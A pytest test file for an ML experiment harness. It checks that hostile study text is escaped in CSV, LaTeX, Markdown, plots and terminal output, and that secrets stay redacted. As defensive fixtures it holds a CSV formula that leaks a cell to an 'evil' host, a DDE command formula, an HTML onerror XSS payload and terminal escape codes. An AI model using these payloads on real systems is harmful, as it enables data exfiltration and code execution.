"""Hostile input, second pass (issue 26): what the harness writes from study text. Every text that reaches a plot,
a CSV, a LaTeX table, Markdown or a terminal passes through its escaper; table names cannot be the report's own
files nor each other's; `${VAR}` reads the environment only in a path and is never shown with its value; no
credential reaches a message or a file. (Run folders: test_hostile_runs.py; bounds: test_hostile_bounds.py.)
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
import yaml

from tests.conftest import TINY_STUDY
from tests.hostile import TINY, fake_run, run_cli, study_text

FORMULAS = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "\rCR"]
MATH = r"$\undefined{x}$"


def labels_study(tmp_path: Path, labels: list[str], **extra) -> Path:
    study = tmp_path / "h.yaml"
    methods = [{"name": "baseline", "label": label, "backbone_lr_scale": 1.0 / (i + 1)}
               for i, label in enumerate(labels)]
    study.write_text(yaml.safe_dump({"name": "labels", "method": {"name": "baseline"}, "dataset": TINY["dataset"],
                                     "train": TINY["train"], "grid": {"method": methods}, "seeds": [0, 1, 2],
                                     "table": {"rows": "method"}, **extra}))
    return study


def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path):
    from harness.report.build import build_reports

    study = labels_study(tmp_path, FORMULAS)
    fake_run(tmp_path / "run", study, [])
    out = build_reports(tmp_path / "run", tmp_path / "out")
    for name in ("table.csv", "table_stats.csv"):
        cells = [c for row in csv.reader(io.StringIO((out / name).read_text())) for c in row]
        risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and c != "-"
                 and not re.fullmatch(r"[+-]?\d+(\.\d*)?([eE][+-]?\d+)?", c)]
        assert not risky, (name, risky)
        assert "'=HYPERLINK(" in (out / name).read_text() and "'-2+3" in (out / name).read_text()


def test_latex_cells_hold_no_blank_line_and_markdown_no_raw_html(tmp_path):
    from harness.report.build import build_reports

    injected = "<img src=x onerror=alert(1)>"
    study = labels_study(tmp_path, ["a\n\nb\\par", "c\r\x1b[2Jd"],
                         protocol={"source": f"{injected}\n\n# not a heading", "lr": {"value": "0.1",
                                                                                      "note": "<b>x</b>\n\nline"}})
    fake_run(tmp_path / "run", study, [])
    out = build_reports(tmp_path / "run", tmp_path / "out")
    tex = (out / "table.tex").read_text()
    body = tex.split(r"\begin{tabular}", 1)[1].split(r"\end{tabular}", 1)[0]
    assert "\n\n" not in body and "\x1b" not in tex and r"\textbackslash par" in body
    for name in ("table.md", "protocol.md"):
        md = (out / name).read_text()
        assert not re.search(r"(?<!\\)<", md) and r"\<img src=x" in md and r"\<b\>x" in md, name
        assert not any(line.startswith("# not") for line in md.splitlines())


def test_a_label_with_mathtext_is_plotted_as_text(tmp_path):
    from harness.report.build import build_reports

    study = labels_study(tmp_path, [MATH, "$x^2$"])
    fake_run(tmp_path / "run", study, [])
    out = build_reports(tmp_path / "run", tmp_path / "out")  # mathtext would raise ValueError: no report at all
    assert (out / "index.html").exists() and list(out.glob("*.png"))


def test_a_label_with_newlines_keeps_the_progress_block_one_line_per_trial():
    from harness.orchestrate.progress import Progress

    out = io.StringIO()
    progress = Progress(2, out=out, live=True)
    progress.start("t1", "pmg\nstages=1\n\x1b[2J", 3)
    progress.start("t2", "b\r\nc", 3)
    assert progress._drawn == 3 and out.getvalue().rsplit("\x1b[J", 1)[-1].count("\n") == 3
    assert "\x1b[2J" not in out.getvalue()


# ----------------------------------------------------------------------------- table names

@pytest.mark.parametrize("tables, message", [
    ({"index.html": {"rows": "method.stages"}}, r"table name 'index\.html': its plot folder index\.html is one of"),
    ({"summary.json": {"rows": "method.stages"}}, r"'summary\.json'"),
    ({"table.md": {"rows": "method.stages"}}, r"'table\.md'"),
    ({"search": {"rows": "method.stages"}}, r"'search': its plot folder search is one of the report's own"),
    ({"a": {"rows": "method.stages"}, "a_stats": {"rows": "method.stages"}},
     r"'a_stats': its file table_a_stats\.csv would also be written for table 'a'"),
    ({"a": {"rows": "method.stages"}, "a_localisation": {"rows": "method.stages"}},
     r"table_a_localisation\.csv would also be written for table 'a'"),
    ({"A": {"rows": "method.stages"}, "a": {"rows": "method.stages"}}, r"table name 'a'"),
])
def test_table_names_that_would_overwrite_a_report_file_are_refused(tmp_path, monkeypatch, capsys, tables,
                                                                    message):
    rc, output, outside = run_cli(tmp_path, study_text(table=None, tables=tables), ["--dry-run"], monkeypatch, capsys)
    assert rc == 2 and re.search(message, output) and "rename the table" in output, output
    assert re.search(r"s\.yaml:\d+: ", output) and "Traceback" not in output and not outside


def test_the_report_refuses_a_run_whose_table_names_collide(tmp_path, tiny_study, capsys):
    from harness.report.build import main

    fake_run(tmp_path / "run", tiny_study, [])
    study = yaml.safe_load((tmp_path / "run" / "study.yaml").read_text())
    study["tables"] = {"a": {"rows": "method.stages"}, "a_stats": {"rows": "method.stages"}}
    (tmp_path / "run" / "study.yaml").write_text(yaml.safe_dump(study))
    assert main([str(tmp_path / "run"), "--out", str(tmp_path / "out")]) == 2
    assert "table_a_stats.csv would also be written" in capsys.readouterr().err


# ----------------------------------------------------------------------------- the environment and credentials

SECRET = "wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY"


@pytest.fixture
def secrets_env(monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    monkeypatch.setenv("MY_DATA", "/mnt/private-share/fgvc")


def _no_training(monkeypatch):
    """harness.run.main as it runs, with its training replaced by nothing (no Ray starts)."""
    from harness import orchestrate
    from harness.results.store import ResultStore

    def run_study(resolved, run_dir, **kwargs):
        ResultStore(run_dir).write_tables(resolved.trials)
        return orchestrate.RunSummary()

    monkeypatch.setattr(orchestrate, "run_study", run_study)


def test_free_text_never_expands_the_environment(tmp_path, monkeypatch, capsys, secrets_env):
    from harness.study.load import load_study

    text = study_text(description="key ${AWS_SECRET_ACCESS_KEY}",
                      protocol={"source": "${AWS_SECRET_ACCESS_KEY}", "lr": {"value": "${HOME}", "note": "${PATH}"}})
    rc, output, _ = run_cli(tmp_path, text, ["--dry-run"], monkeypatch, capsys)
    assert rc == 0 and SECRET not in output and "${AWS_SECRET_ACCESS_KEY}" in output
    study = load_study(tmp_path / "work" / "s.yaml").study
    assert study.description == "key ${AWS_SECRET_ACCESS_KEY}"
    assert study.protocol["source"] == "${AWS_SECRET_ACCESS_KEY}"


def test_a_path_names_a_variable_and_is_shown_without_its_value(tmp_path, monkeypatch, capsys, secrets_env):
    from harness.core.escape import printable
    from harness.study.load import load_study

    path = tmp_path / "p.yaml"
    path.write_text(study_text(dataset={"name": "imagefolder", "root": "${MY_DATA}/birds"}))
    resolved = load_study(path)
    assert resolved.trials[0].config["dataset"]["root"] == "/mnt/private-share/fgvc/birds"  # what the trial reads
    assert printable(f"no folder at {resolved.trials[0].config['dataset']['root']}") == "no folder at ${MY_DATA}/birds"


def test_no_secret_reaches_the_terminal_or_a_file_of_the_run(tmp_path, monkeypatch, capsys, secrets_env):
    _no_training(monkeypatch)
    storage = f"s3://AKIAEXAMPLE:{SECRET}@bucket/fgvc?session_token=tok-{SECRET}"
    text = study_text(description="${AWS_SECRET_ACCESS_KEY}", dataset={**TINY["dataset"]},
                      protocol={"source": f"see {storage}"})
    rc, output, outside = run_cli(tmp_path, text, ["--storage", storage], monkeypatch, capsys)
    assert rc == 0, output[-2000:]
    written = [p for p in (tmp_path / "a").rglob("*") if p.is_file()]
    assert any(p.name == "study.yaml" for p in written) and any(p.name == "run.json" for p in written)
    for p in written:
        assert SECRET not in p.read_text(errors="replace"), p
    assert SECRET not in output and "AKIAEXAMPLE" not in output and not outside


def test_a_secret_of_the_environment_is_scrubbed_from_anything_printed(monkeypatch):
    from harness.core.escape import printable, redact_argv, scrub_data

    monkeypatch.setenv("SOME_API_TOKEN", "tok_0123456789abcdef")
    assert printable("error: token tok_0123456789abcdef refused") == "error: token *** refused"
    assert printable("gs://user:pass@b/x?sig=abc&x=1") == "gs://***@b/x?sig=***&x=1"
    assert redact_argv(["--storage=s3://k:s@b"]) == "--storage=s3://***@b"
    assert scrub_data({"a": ["tok_0123456789abcdef", 3]}) == {"a": ["***", 3]}


def test_run_json_and_the_lock_of_a_run_with_credentials(tmp_path, monkeypatch, capsys):
    """The refusal of a second run names the first by its command line, without its credentials."""
    from harness.results.store import RunLock

    monkeypatch.setattr("sys.argv", ["harness.run", "s.yaml", "--storage", f"s3://KEY:{SECRET}@bucket/x"])
    roots = tmp_path / "a" / "b" / "roots"
    with RunLock(roots / "runs" / "tiny" / "default"):
        rc, output, _ = run_cli(tmp_path, TINY_STUDY, [], monkeypatch, capsys)
    assert rc == 2 and "another run of this study and profile is in progress" in output
    assert SECRET not in output and "s3://***@bucket/x" in output
